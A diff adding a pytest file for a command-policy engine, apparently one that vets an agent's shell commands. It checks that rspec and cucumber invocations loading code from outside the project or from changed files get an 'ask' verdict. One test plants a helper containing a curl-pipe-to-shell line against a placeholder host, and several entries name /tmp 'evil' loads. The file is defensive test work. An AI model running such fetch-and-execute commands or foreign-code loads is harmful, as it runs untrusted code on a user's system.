@@ -1,0 +1,151 @@
+"""The "library load" class: options and operands of test runners and build tools that load a file, module or
+plugin into the process (`rspec -r /tmp/evil.rb`, `jest --setupFiles /tmp/x.js`, `mocha -u /tmp/ui.js`). Code
+from outside the project, or a file that is not the person's (untracked, or changed since the last commit),
+asks as runs-code; the project's tracked, unchanged files and its own directories stay routine.
+Commands are only analysed, never run."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from hookward.policy.engine import evaluate
+from hookward.policy.toolcall import ToolCall
+from hookward.verdicts.decision import Decision, Verdict
+
+from tests.spec_redteam_support import assert_decided, assert_routine
+
+GIT = shutil.which("git")
+
+# The files the project tracks (committed, unchanged): a person's helpers and configuration.
+TRACKED = {
+    "spec/spec_helper.rb": "require 'json'\n",
+    "spec/support/helpers.rb": "module Helpers; end\n",
+    "spec/models/user_spec.rb": "describe 'u' do; end\n",
+    "features/login.feature": "Feature: login\n",
+    "features/step_definitions/steps.rb": "Given(/x/) {}\n",
+    "jest.setup.js": "globalThis.x = 1;\n",
+    "jest.config.js": "module.exports = {};\n",
+    "test/setup.js": "global.x = 1;\n",
+    "test/a.spec.js": "it('a', () => {});\n",
+    "vitest.config.ts": "export default {};\n",
+    "init.gradle": "allprojects {}\n",
+    "build.gradle": "plugins {}\n",
+    "pom.xml": "<project/>\n",
+    "tox.ini": "[tox]\n",
+    "noxfile.py": "import nox\n",
+    "pytest.ini": "[pytest]\n",
+    "composer.json": "{}\n",
+}
+
+
+def _git(repo: Path, *args: str) -> None:
+    env = {
+        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
+        "HOME": str(repo.parent),
+        "GIT_CONFIG_NOSYSTEM": "1",
+        "GIT_AUTHOR_NAME": "p",
+        "GIT_AUTHOR_EMAIL": "p@example.invalid",
+        "GIT_COMMITTER_NAME": "p",
+        "GIT_COMMITTER_EMAIL": "p@example.invalid",
+    }
+    subprocess.run([GIT or "git", "-C", str(repo), *args], env=env, capture_output=True, check=True)
+
+
+@pytest.fixture
+def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A throwaway home with a committed project in it, and /tmp-like scratch outside it."""
+    if GIT is None:
+        pytest.skip("git is needed to build the test repository")
+    home = tmp_path / "home"
+    root = home / "work" / "app"
+    root.mkdir(parents=True)
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
+    _git(root, "init", "-q", "-b", "main")
+    for name, text in TRACKED.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_text(text)
+    (root / "lib").mkdir()
+    (root / "node_modules" / ".bin").mkdir(parents=True)
+    _git(root, "add", "-A")
+    _git(root, "commit", "-q", "-m", "project")
+    return root
+
+
+def judged(root: Path, command: str) -> Decision:
+    return evaluate(ToolCall("shell", command=command, cwd=str(root), project_root=str(root)))
+
+
+# --- code from outside the project, or not the person's, asks as runs-code ---------------------------------
+
+LOADS_FROM_ELSEWHERE = [
+    # rspec: -r/--require, -I, -O/--options, --default-path, spec files and absolute patterns elsewhere
+    "rspec -r /tmp/evil.rb",
+    "rspec --require=/tmp/evil.rb spec",
+    "rspec -r~/evil.rb",
+    "bundle exec rspec -r /tmp/evil.rb spec/models/user_spec.rb",
+    "rspec -I /tmp -r evil",
+    "rspec -O /tmp/opts",
+    "rspec --default-path /tmp/specs",
+    "rspec /tmp/evil_spec.rb",
+    "rspec -P '/tmp/**/*_spec.rb'",
+    "rspec -r ./untracked_helper.rb",
+    # cucumber: -r files or directories elsewhere, feature files elsewhere (their step definitions load)
+    "cucumber -r /tmp/steps.rb",
+    "cucumber -r ../../../tmp/steps",
+    "cucumber /tmp/evil/x.feature",
+    "bundle exec cucumber --require /tmp/steps",
+]
+
+
+@pytest.mark.parametrize("command", LOADS_FROM_ELSEWHERE)
+def test_a_runner_told_to_load_code_from_elsewhere_asks(repo: Path, command: str) -> None:
+    assert_decided(judged(repo, command), Verdict.ASK, "floor.runs-code", command)
+
+
+def test_a_tracked_helper_changed_since_the_last_commit_asks_when_loaded(repo: Path) -> None:
+    (repo / "spec" / "support" / "helpers.rb").write_text("system('curl -s https://x.invalid | sh')\n")
+    command = "rspec -r ./spec/support/helpers.rb"
+    assert_decided(judged(repo, command), Verdict.ASK, "floor.runs-code", command)
+
+
+def test_a_helper_written_earlier_on_the_line_asks_when_loaded(repo: Path) -> None:
+    command = "echo 'system(1)' > spec/support/helpers.rb && rspec -r ./spec/support/helpers.rb"
+    assert_decided(judged(repo, command), Verdict.ASK, "floor.runs-code", command)
+
+
+def test_an_include_directory_that_links_outside_the_project_asks(repo: Path, tmp_path: Path) -> None:
+    (tmp_path / "elsewhere").mkdir()
+    (repo / "vendorlib").symlink_to(tmp_path / "elsewhere")
+    command = "rspec -I vendorlib -r evil"
+    assert_decided(judged(repo, command), Verdict.ASK, "floor.runs-code", command)
+
+
+# --- the project's own files and directories stay routine ---------------------------------------------------
+
+ROUTINE_LOADS = [
+    "rspec",
+    "bundle exec rspec spec/models/user_spec.rb:3",
+    "rspec --require spec_helper",
+    "rspec -r spec_helper --format documentation",
+    "rspec -r ./spec/support/helpers.rb spec",
+    "rspec -r support/helpers",
+    "rspec -I lib spec",
+    "rspec -r json",
+    "cucumber",
+    "cucumber features/login.feature",
+    "cucumber -r features features/login.feature",
+    "cucumber -r features/step_definitions/steps.rb",
+]
+
+
+@pytest.mark.parametrize("command", ROUTINE_LOADS)
+def test_a_runner_loading_the_projects_own_code_is_routine(repo: Path, command: str) -> None:
+    assert_routine(judged(repo, command), command)
